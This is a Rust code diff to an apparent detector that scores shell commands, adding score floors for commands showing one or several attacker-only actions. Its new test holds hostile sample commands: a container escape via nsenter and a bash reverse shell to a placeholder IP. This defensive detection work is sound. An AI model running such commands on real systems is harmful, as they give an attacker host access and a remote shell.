@@ -13,6 +13,8 @@ const GATE: &str = "opinion.gate";
 const FIRST: &str = "opinion.first";
 const BIAS: &str = "opinion.bias";
 const LATE: &str = "opinion.late";
+const ONE: &str = "opinion.floor.one";
+const MORE: &str = "opinion.floor.more";
 
 /// An input of the network.
 #[derive(Clone, Copy)]
@@ -35,8 +37,11 @@ pub(super) struct Opinion {
     /// What the first opinion's logit counts beside this one's, and what is added to both.
     first: f32,
     both: f32,
-    /// Stands in where there was no time.
+    /// Stands in where there was no time, and is the least for what was not followed to its end.
     late: f32,
+    /// The least for what does one thing that only attackers do, and for what does several.
+    one: f32,
+    more: f32,
 }
 
 impl Opinion {
@@ -49,6 +54,7 @@ impl Opinion {
             let number: Option<f32> = text.trim().parse().ok().filter(|n: &f32| n.is_finite());
             number.ok_or_else(|| format!("its metadata's {key} is no number: {text:?}"))
         };
+        let late = number(LATE)?;
         let inputs = names.split_whitespace().map(input).collect::<Result<Vec<_>, _>>()?;
         let hidden = number(HIDDEN)?;
         let hidden = if (1.0..=1024.0).contains(&hidden) {
@@ -79,7 +85,9 @@ impl Opinion {
             gate: number(GATE)?,
             first: number(FIRST)?,
             both: number(BIAS)?,
-            late: number(LATE)?,
+            late,
+            one: if metadata(ONE).is_some() { number(ONE)? } else { late },
+            more: if metadata(MORE).is_some() { number(MORE)? } else { late },
         }))
     }
 
@@ -136,8 +144,13 @@ impl Opinion {
         let weights = behaviour.evidence.iter().map(|evidence| rests(evidence.fact)).collect();
         // What was not followed to its end must not look better than if it had not been followed at all. Nor must what does something
         // that only attackers do: whatever careful people write around it, anybody can write.
-        let attacks = |evidence: &behaviour::Evidence| evidence.fact.leaning() == Leaning::Attack;
-        if behaviour.has(Fact::Cut) || behaviour.evidence.iter().any(attacks) {
+        let is_attack = |fact: &&Fact| fact.leaning() == Leaning::Attack && behaviour.has(**fact);
+        match Fact::ALL.iter().filter(is_attack).take(2).count() {
+            0 => {}
+            1 => whole = whole.max(self.one),
+            _ => whole = whole.max(self.more),
+        }
+        if behaviour.has(Fact::Cut) {
             whole = whole.max(self.late);
         }
         (whole, weights)
@@ -209,6 +222,18 @@ mod tests {
         assert!(attack.has(Fact::EscapeHost) && !attack.has(Fact::FetchRun));
         assert!((opinion.weigh(&attack).0 - 0.75).abs() < 1e-6);
         assert!((opinion.weigh(&Behaviour::of(b"uptime")).0 - 0.25).abs() < 1e-6);
+    }
+
+    #[test]
+    fn who_does_two_things_that_only_attackers_do_has_a_floor_of_his_own() {
+        let opinion = read(&[(ONE, "0.5"), (MORE, "2")]).unwrap().unwrap();
+        let weighed = |text: &[u8]| opinion.weigh(&Behaviour::of(text)).0;
+        assert!((weighed(b"nsenter -t 1 -m sh") - 0.5).abs() < 1e-6);
+        assert!((weighed(b"nsenter -t 1 -m sh; bash -i >& /dev/tcp/192.0.2.1/4 0>&1") - 2.0).abs() < 1e-6);
+        // One that was cut, too, is no better than one that was not followed.
+        let long = [&b"nsenter -t 1 -m sh\n"[..], &b"id\n".repeat(behaviour::TEXT_MAX)].concat();
+        assert!((weighed(&long) - 0.75).abs() < 1e-6);
+        assert!(read(&[(MORE, "much")]).is_err());
     }
 
     #[test]
